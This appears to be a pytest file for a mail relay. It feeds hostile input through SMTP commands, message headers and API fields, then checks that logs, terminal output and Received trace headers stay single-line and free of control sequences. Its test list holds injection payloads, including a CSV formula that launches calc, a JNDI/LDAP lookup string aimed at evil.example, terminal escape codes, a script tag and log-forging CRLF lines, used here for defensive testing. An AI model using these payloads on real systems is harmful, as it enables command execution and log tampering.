"""Strangers' words in logs, on terminals and in trace fields: one line each, and nothing that steers."""

import asyncio
import json
import re
import subprocess
import sys

from relay.message.headers import Header
from tests.fakes.api_client import api_client, http_client, make_key
from tests.fakes.daemon import APPLICATION, Daemon
from tests.fakes.far_mx import FarMx
from tests.flows.house import FAR
from tests.relay.smtp_server.client import Client

FORGED = "2026-11-21 00:00:00.000 ERROR    smtp       ses_x authenticated as 'boss'"
HOSTILE = [
    f"x\r\n{FORGED}",
    f"x\n{FORGED}",
    f"x\r{FORGED}",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07",
    "\x9b31m\x9d0;title\x9c",
    "\x07\x08\x7f\x0b\x0c",
    "\u202egnp.exe\u2066x\u2069\u200f\u061c",
    "\u2028line\u2029paragraph\x85next",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    '","injected","',
    "%n%s%x {0} ${jndi:ldap://evil.example/} {{7*7}}",
    "<script>alert(1)</script>",
    "\U0001f600 e\u0301\ufeff",
]
_LINE = re.compile(r"(?:\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{3} [A-Z]+ +[a-z_]+ +|    \| ).*")
_STEERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u2028-\u202e\u2066-\u2069\u200e\u200f]")


def octets(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


async def speak(daemon: Daemon, door: str, text: str) -> None:
    """Say it wherever SMTP lets somebody say something."""
    said = octets(text)
    for lines in (
        [b"EHLO " + said, b"VRFY " + said, b"HELP " + said, said],
        [b"EHLO x", b"MAIL FROM:<" + said + b"@far.example>", b"RCPT TO:<" + said + b"@ours.test>"],
        [b"EHLO x", b"MAIL FROM:<a@far.example> ENVID=" + said, b"AUTH PLAIN " + said, b"AUTH " + said],
        [b"EHLO " + said.replace(b"\r", b"").replace(b"\n", b""), b"MAIL FROM:<a@far.example>"],
    ):
        async with await Client.open(daemon.ports[door]) as client:
            client.send(b"\r\n".join(lines) + b"\r\nQUIT\r\n")
            for reply in await client.hear_all():
                assert not _STEERS.search(reply.replace("\n", "")), reply


async def send_in(daemon: Daemon, text: str) -> None:
    """A message whose every field says it."""
    said = octets(text).replace(b"\r", b"").replace(b"\n", b"").replace(b"\0", b"")
    async with await Client.open(daemon.ports["inbound"]) as client:
        await client.start_mail(APPLICATION)
        message = (
            b"From: "
            + said
            + b" <eve@far.example>\r\nSubject: "
            + said
            + b"\r\nMessage-ID: <"
            + said
            + b"@x>\r\n"
            b"To: " + said + b"\r\nContent-Type: text/plain; name=" + said + b"\r\n\r\n" + said + b"\r\n.\r\n"
        )
        assert (await client.data(message)).startswith("250 ")


def command_line(daemon: Daemon, *words: str) -> str:
    command = [sys.executable, "-m", "relay", *words, "--config", str(daemon.config_file)]
    return subprocess.run(command, capture_output=True, check=True, timeout=60).stdout.decode()


async def test_no_stranger_forges_a_line_or_steers_a_terminal(daemon: Daemon, mx: FarMx) -> None:
    key = await make_key(daemon)
    await daemon.start()
    async with http_client(daemon, key) as http, api_client(daemon, key) as api:
        for number, text in enumerate(HOSTILE):
            await asyncio.gather(*(speak(daemon, door, text) for door in ("inbound", "submission")))
            await send_in(daemon, text)
            word = re.sub(rb"[\x00-\x1f\x7f]", b" ", octets(text)).strip() or b"x"
            headers = dict.fromkeys((b"User-Agent", b"X-Request-Id", b"Idempotency-Key"), word)
            await http.post("/v1/inboxes", json={"name": text, "address": text}, headers=headers)
            await http.get("/v1/inboxes", params={"cursor": text, text: text})
            # Words of the far side come back to us, and are shown to people.
            mx.answers(f"p{number}@{FAR}", b"550 5.1.1 " + re.sub(rb"[\r\n]", b"", octets(text)) + b"\r\n")
            letter = {"to": f"p{number}@{FAR}", "text": "x", "subject": re.sub(r"[^ -~]", "?", text)}
            sent = await api.post(f"/v1/inboxes/{APPLICATION}/messages", letter)
        for _ in HOSTILE:
            await daemon.happens("message.bounced")
        shown = [
            *(("tail", "-n", "1000", "--no-follow"), ("tail", "-n", "1000", "--no-follow", "--json")),
            *(("queue", "list"), ("explain", sent["id"]), ("suppression", "list")),
        ]
        for words in shown:
            told = command_line(daemon, *words)
            assert not _STEERS.search(told), (words, told)
            assert FORGED not in [line.strip() for line in told.splitlines()]
            for line in told.splitlines() if words[-1] == "--json" and words[0] == "tail" else []:
                json.loads(line)
    assert await daemon.stop() == 0
    for line in daemon.log.splitlines():
        assert _LINE.fullmatch(line), line
    assert not _STEERS.search(daemon.log)


async def test_trace_fields_say_who_it_was_whatever_the_client_calls_itself(daemon: Daemon) -> None:
    key = await make_key(daemon)
    await daemon.start()
    taken = 0
    names = ["x (evil [192.0.2.9]) by trusted.example", "[192.0.2.9])", 'x;y "z" \\ <a@b>', "ü.example"]
    for name in [*HOSTILE, *names, "x" * 500]:
        hello = re.sub(rb"[\r\n\0]", b"", octets(name))
        async with await Client.open(daemon.ports["inbound"]) as client:
            client.send(b"EHLO " + hello + b"\r\n")
            if not (await client.hear()).startswith("250"):
                continue
            await client.say("MAIL FROM:<eve@far.example>")
            await client.say(f"RCPT TO:<{APPLICATION}>")
            assert (await client.data(b"Subject: x\r\n\r\nx\r\n.\r\n")).startswith("250 ")
            taken += 1
    await daemon.happens("message.received", times=taken)
    async with http_client(daemon, key) as http:
        found = (await http.get(f"/v1/inboxes/{APPLICATION}/messages", params={"limit": 200})).json()["data"]
        assert len(found) > 5
        for each in found:
            raw = (await http.get(f"/v1/inboxes/{APPLICATION}/messages/{each['id']}/raw")).content
            head = Header.parse(raw.partition(b"\r\n\r\n")[0] + b"\r\n")
            (trace,) = head.all("received")
            # One comment that is ours names the client; what it calls itself opens none.
            assert re.match(r"from [!-'*-:<-~]+ \(\[127\.0\.0\.1\]\)\s+by mail\.ours\.test ", trace), trace
            assert len(head.all("return-path")) == 1
